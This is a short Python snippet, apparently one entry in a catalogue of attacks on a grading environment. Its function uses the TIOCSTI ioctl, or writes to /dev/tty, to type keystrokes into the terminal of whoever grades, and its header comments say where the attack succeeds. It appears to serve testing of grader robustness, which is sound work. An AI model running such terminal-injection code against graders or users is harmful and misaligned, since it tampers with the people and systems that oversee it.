# damaging: types into the terminal of whoever grades
# wins: nowhere, machines differ in what they allow
import fcntl
import termios


def attack():
    any_of(
        *(lambda number=number: fcntl.ioctl(number, termios.TIOCSTI, b"\n") for number in range(3)),
        lambda: open("/dev/tty", "wb").write(b"\n"),
    )
